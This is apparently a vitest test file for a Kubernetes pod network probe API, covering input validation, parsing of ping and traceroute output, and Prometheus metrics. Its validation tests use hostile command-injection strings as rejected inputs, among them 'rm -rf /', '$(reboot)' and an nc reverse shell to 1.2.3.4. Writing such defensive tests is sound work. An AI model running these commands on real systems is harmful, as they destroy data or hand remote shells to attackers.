import { describe, expect, it } from 'vitest';
import {
  MAX_REF_LENGTH, PROBE_LIMITS, emptyHistogram, observeDuration, parsePingOutput, parseProbeRequest, parseRouteGetOutput,
  parseTracerouteOutput, renderProbeMetrics, type ProbeStats,
} from './probe';

const ping = (to: unknown, extra: Record<string, unknown> = {}) => ({ kind: 'ping', from: { pod: 'web-1' }, to, ...extra });
const errorOf = (body: unknown) => {
  const r = parseProbeRequest(body);
  if (r.ok) throw new Error(`accepted ${JSON.stringify(body)}`);
  return r.error;
};

describe('parseProbeRequest: good requests', () => {
  it('fills in the defaults of each kind and nothing of the others', () => {
    expect(parseProbeRequest(ping('web-4'))).toEqual({ ok: true, request: { kind: 'ping', from: { pod: 'web-1' }, to: 'web-4', count: 3, timeoutMs: 2000, size: 56 } });
    expect(parseProbeRequest({ kind: 'tcp', from: { pod: 'web-1' }, to: '10.244.2.2', port: 8080 })).toEqual({ ok: true, request: { kind: 'tcp', from: { pod: 'web-1' }, to: '10.244.2.2', port: 8080, timeoutMs: 2000 } });
    expect(parseProbeRequest(ping('web-4', { size: 1472 }))).toMatchObject({ ok: true, request: { size: 1472 } });
    expect(parseProbeRequest({ kind: 'traceroute', from: { node: true }, to: '10.244.2.2' })).toEqual({
      ok: true, request: { kind: 'traceroute', from: { node: true }, to: '10.244.2.2', maxHops: 15, timeoutMs: 2000 },
    });
    expect(parseProbeRequest({ kind: 'route-get', from: { pod: 'team-a/api' }, to: 'kube-system/coredns-5d78c9869d-x7k2p', timeoutMs: 100 })).toEqual({
      ok: true, request: { kind: 'route-get', from: { pod: 'team-a/api' }, to: 'kube-system/coredns-5d78c9869d-x7k2p', timeoutMs: 100 },
    });
  });

  it('accepts the bounds and canonicalises default/NAME to NAME', () => {
    for (const count of [1, 10]) expect(parseProbeRequest(ping('10.244.2.3', { count })).ok).toBe(true);
    for (const timeoutMs of [100, 10_000]) expect(parseProbeRequest(ping('10.244.2.3', { timeoutMs })).ok).toBe(true);
    for (const maxHops of [1, 30]) expect(parseProbeRequest({ kind: 'traceroute', from: { node: true }, to: 'web-3', maxHops }).ok).toBe(true);
    const r = parseProbeRequest({ kind: 'ping', from: { pod: 'default/web-1' }, to: 'default/web-4' });
    expect(r.ok && [r.request.from, r.request.to]).toEqual([{ pod: 'web-1' }, 'web-4']);
    // Pod names are DNS subdomains: dots are allowed (a StatefulSet's pod, a dotted name).
    expect(parseProbeRequest(ping('db.primary-0')).ok).toBe(true);
    expect(parseProbeRequest(ping('127.0.0.1')).ok).toBe(true);
  });
});

describe('parseProbeRequest: hostile and wrong requests are refused, saying what is allowed', () => {
  it.each([
    ['; rm -rf /', /to "; rm -rf \/" is neither an IPv4 address nor a pod: it contains ";"; give a pod .* or an IPv4 address/],
    ['$(reboot)', /contains "\$"/],
    ['10.0.0.1 && id', /"10.0.0.1 && id" is neither an IPv4 address nor a pod: it contains a space/],
    ['`id`', /contains "`"/],
    ['web-4\nHTTP/1.1 200 OK', /"web-4\\nHTTP\/1.1 200 OK" is neither .* it contains "\\n"/],
    ['web-4\r', /contains "\\r"/],
    ['web-4\u0000', /contains "\\u0000"/],
    ['|nc -e /bin/sh 1.2.3.4 9', /contains "\|"/],
    ['-f', /"-f": "-f" is not a Kubernetes pod name/],
    ['--help', /is not a Kubernetes pod name/],
    ['example.com.', /is not a Kubernetes pod name/],
    ['Web-4', /upper-case "W" \(Kubernetes names are lower case\)/],
    ['a/b/c', /has more than one "\/"/],
    ['team_a/api', /contains "_"/],
    ['/api', /namespace "" is not a Kubernetes namespace name/],
    ['', /^to is empty: give a pod/],
    ['x'.repeat(MAX_REF_LENGTH + 1), new RegExp(`^to is too long \\(${MAX_REF_LENGTH + 1} characters, at most ${MAX_REF_LENGTH}\\)$`)],
    ['::1', /IPv6 is not supported yet/],
    ['fd00:10:244::2', /IPv6 is not supported yet/],
    ['fe80::1%eth0', /IPv6 is not supported yet/],
    ['300.1.1.1', /"300.1.1.1" is not an IPv4 address: four numbers 0-255/],
    ['10.244.1', /is not an IPv4 address/],
    ['010.244.1.2', /without leading zeros/],
    ['1.2.3.4.5', /is not an IPv4 address/],
    ['10.0.0.1:80', /contains ":"/],
    ['0.0.0.0', /0.0.0.0\/8/],
    ['224.0.0.1', /multicast/],
    ['255.255.255.255', /reserved or broadcast/],
  ])('to %j', (to, message) => {
    expect(errorOf(ping(to))).toMatch(message);
  });

  it.each([
    [{ pod: '$(reboot)' }, /from.pod "\$\(reboot\)" is not a pod reference: it contains "\$"/],
    [{ pod: '' }, /from.pod is empty/],
    [{ pod: 5 }, /from.pod must be a string, got 5 \(a number\)/],
    [{ pod: 'web-1', node: true }, /not both/],
    [{ node: false }, /from.node must be true, got false/],
    [{ node: 'true' }, /from.node must be true, got "true"/],
    [{}, /from must be \{"pod": .*\} or \{"node": true\}, got \{\}/],
    [{ pod: 'web-1', netns: '/proc/1/ns/net' }, /from has unknown field "netns"/],
    ['web-1', /from must be .*, got "web-1"/],
    [undefined, /from is required/],
  ])('from %j', (from, message) => {
    expect(errorOf({ kind: 'ping', from, to: 'web-4' })).toMatch(message);
  });

  it('numbers: out of range, negative, fractional, strings, huge', () => {
    const range = (f: string, lim: { min: number; max: number; default: number }) => `${f} must be an integer from ${lim.min} to ${lim.max} (default ${lim.default})`;
    expect(errorOf(ping('web-4', { count: 1_000_000 }))).toBe(`${range('count', PROBE_LIMITS.count)}, got 1000000 (a number)`);
    expect(errorOf(ping('web-4', { count: 0 }))).toMatch(/^count must be an integer from 1 to 10/);
    expect(errorOf(ping('web-4', { count: 2.5 }))).toMatch(/got 2.5/);
    expect(errorOf(ping('web-4', { count: '3' }))).toBe(`${range('count', PROBE_LIMITS.count)}, got "3"`);
    expect(errorOf(ping('web-4', { timeoutMs: -1 }))).toBe(`${range('timeoutMs', PROBE_LIMITS.timeoutMs)}, got -1 (a number)`);
    expect(errorOf(ping('web-4', { timeoutMs: 99 }))).toMatch(/timeoutMs must be an integer from 100 to 10000/);
    expect(errorOf(ping('web-4', { timeoutMs: 1e308 }))).toMatch(/timeoutMs must be/);
    expect(errorOf(ping('web-4', { timeoutMs: null }))).toMatch(/timeoutMs must be .*, got null/);
    expect(errorOf({ kind: 'traceroute', from: { node: true }, to: 'web-3', maxHops: 31 })).toMatch(/maxHops must be an integer from 1 to 30 \(default 15\), got 31/);
    // Both problems at once, both named.
    expect(errorOf(ping('web-4', { count: 11, timeoutMs: -5 }))).toMatch(/count must .*got 11.*; timeoutMs must .*got -5/);
  });

  it("fields of another kind, unknown fields, unknown kinds, bodies that are not objects", () => {
    expect(errorOf({ kind: 'route-get', from: { node: true }, to: 'web-3', count: 3 })).toBe('count applies to ping only, not route-get');
    expect(errorOf(ping('web-4', { maxHops: 3 }))).toBe('maxHops applies to traceroute only, not ping');
    expect(errorOf(ping('web-4', { args: ['-f'] }))).toBe('unknown field "args": allowed are kind, from, to, count, timeoutMs, maxHops, size, port');
    expect(errorOf(ping('web-4', { port: 80 }))).toBe('port applies to tcp only, not ping');
    expect(errorOf(ping('web-4', { size: 9001 }))).toMatch(/size must be an integer from 16 to 9000/);
    expect(errorOf(JSON.parse('{"kind":"ping","from":{"node":true},"to":"web-4","__proto__":{"x":1}}'))).toMatch(/unknown field "__proto__"/);
    expect(errorOf({ ...ping('web-4'), kind: 'nmap' })).toBe('kind must be one of ping, traceroute, route-get, tcp, got "nmap"');
    expect(errorOf({ ...ping('web-4'), kind: ['ping'] })).toMatch(/kind must be one of .*, got an array/);
    expect(errorOf({ from: { node: true }, to: 'web-4' })).toBe('kind is required: one of ping, traceroute, route-get, tcp');
    expect(errorOf({ kind: 'ping', from: { node: true } })).toMatch(/^to is required: a pod/);
    for (const to of [5, null, true, ['web-4'], { pod: 'web-4' }]) expect(errorOf(ping(to))).toMatch(/^to must be a string: /);
    for (const body of [null, 'ping web-4', 42, [], undefined]) expect(errorOf(body)).toMatch(/^the request body must be a JSON object such as \{"kind":"ping"/);
  });

  it('quotes hostile values escaped and shortened, so a message is one safe line', () => {
    const e = errorOf(ping(`a\n${'b'.repeat(500)}`));
    expect(e).not.toContain('\n');
    expect(e.length).toBeLessThan(400);
  });
});

describe('parsers', () => {
  it('ping: replies, summary and round-trip times', () => {
    const out = `PING 10.244.2.3 (10.244.2.3) 56(84) bytes of data.
64 bytes from 10.244.2.3: icmp_seq=1 ttl=62 time=0.081 ms
64 bytes from 10.244.2.3: icmp_seq=2 ttl=62 time=0.110 ms
no answer yet for icmp_seq=3
64 bytes from 10.244.2.3: icmp_seq=4 ttl=62 time=0.095 ms

--- 10.244.2.3 ping statistics ---
4 packets transmitted, 3 received, 25% packet loss, time 603ms
rtt min/avg/max/mdev = 0.081/0.095/0.110/0.011 ms
`;
    const p = parsePingOutput(out);
    expect(p.replies).toEqual([
      { seq: 1, from: '10.244.2.3', ttl: 62, rttMs: 0.081 },
      { seq: 2, from: '10.244.2.3', ttl: 62, rttMs: 0.11 },
      { seq: 4, from: '10.244.2.3', ttl: 62, rttMs: 0.095 },
    ]);
    expect(p.summary).toEqual({ sent: 4, received: 3, lossPct: 25 });
    expect(p.rttMs).toEqual({ min: 0.081, avg: 0.095, max: 0.11, mdev: 0.011 });
  });

  it('ping: ICMP errors, and a killed ping without a summary', () => {
    const p = parsePingOutput(`PING 10.244.9.9 (10.244.9.9) 56(84) bytes of data.
From 10.244.1.1 icmp_seq=1 Destination Host Unreachable
From 10.244.1.1 icmp_seq=2 Destination Host Unreachable

--- 10.244.9.9 ping statistics ---
2 packets transmitted, 0 received, +2 errors, 100% packet loss, time 203ms
`);
    expect(p.icmpErrors).toEqual([
      { seq: 1, from: '10.244.1.1', message: 'Destination Host Unreachable' },
      { seq: 2, from: '10.244.1.1', message: 'Destination Host Unreachable' },
    ]);
    expect(p.summary).toEqual({ sent: 2, received: 0, lossPct: 100 });
    const killed = parsePingOutput('PING 10.9.9.2 (10.9.9.2) 56(84) bytes of data.\nno answer yet for icmp_seq=1\nno answer yet for icmp_seq=2\n');
    expect([killed.summary, killed.maxSeq, killed.replies]).toEqual([null, 2, []]);
  });

  it('traceroute: hops, silent hops and annotations', () => {
    const hops = parseTracerouteOutput(`traceroute to 10.244.2.2 (10.244.2.2), 15 hops max, 60 byte packets
 1  10.244.1.1  0.062 ms
 2  *
 3  10.244.2.2  0.120 ms !X
10  192.168.1.12  1.5 ms
`);
    expect(hops).toEqual([
      { ttl: 1, address: '10.244.1.1', rttMs: 0.062, annotation: null },
      { ttl: 2, address: null, rttMs: null, annotation: null },
      { ttl: 3, address: '10.244.2.2', rttMs: 0.12, annotation: '!X' },
      { ttl: 10, address: '192.168.1.12', rttMs: 1.5, annotation: null },
    ]);
    expect(parseTracerouteOutput('traceroute to 8.8.8.8 (8.8.8.8), 15 hops max, 60 byte packets')).toEqual([]);
  });

  it('route get: the kernel\'s answer, unicast when ip leaves the type out', () => {
    const r = parseRouteGetOutput('[{"dst":"10.244.2.2","gateway":"10.244.1.1","dev":"eth0","prefsrc":"10.244.1.2","flags":[],"uid":0,"cache":[]}]\n');
    expect(r).toMatchObject({ dst: '10.244.2.2', type: 'unicast', gateway: '10.244.1.1', dev: 'eth0', prefsrc: '10.244.1.2', table: null, flags: [] });
    expect(parseRouteGetOutput('[{"type":"local","dst":"127.0.0.1","dev":"lo","prefsrc":"127.0.0.1","flags":[],"uid":0,"cache":["local"]}]')).toMatchObject({ type: 'local', gateway: null, dev: 'lo' });
    for (const bad of ['', 'RTNETLINK answers: Network is unreachable', '[]', '{}', '[1]']) expect(parseRouteGetOutput(bad)).toBeNull();
  });
});

describe('metrics', () => {
  it('a cumulative histogram, rendered in the Prometheus text format', () => {
    const h = emptyHistogram();
    for (const ms of [3, 40, 40, 700, 20_000]) observeDuration(h, ms);
    expect(h.count).toBe(5);
    expect(h.sumMs).toBe(20_783);
    expect(h.buckets).toEqual([1, 1, 3, 3, 3, 3, 4, 4, 4, 4, 5]);
    const zero = { outcomes: { ok: 0, failed: 0, timeout: 0 }, durationMs: emptyHistogram() };
    const stats: ProbeStats = {
      maxConcurrent: 4, maxQueue: 8, inFlight: 1, queued: 0, spawned: 5,
      runs: { ping: { outcomes: { ok: 4, failed: 0, timeout: 1 }, durationMs: h }, traceroute: zero, 'route-get': zero, tcp: zero },
      rejected: { invalid: 2, 'unknown-pod': 0, 'pod-without-ip': 0, 'source-unavailable': 0, busy: 1, closed: 0, 'spawn-failed': 0 },
    };
    const text = renderProbeMetrics(stats);
    expect(text).toContain('podnet_probe_runs_total{kind="ping",outcome="timeout"} 1');
    expect(text).toContain('podnet_probe_rejected_total{reason="busy"} 1');
    expect(text).toContain('podnet_probe_duration_seconds_bucket{kind="ping",le="0.05"} 3');
    expect(text).toContain('podnet_probe_duration_seconds_bucket{kind="ping",le="+Inf"} 5');
    expect(text).toContain('podnet_probe_duration_seconds_sum{kind="ping"} 20.783');
    expect(text).toContain('podnet_probe_in_flight 1');
    expect(text.endsWith('\n')).toBe(true);
  });
});
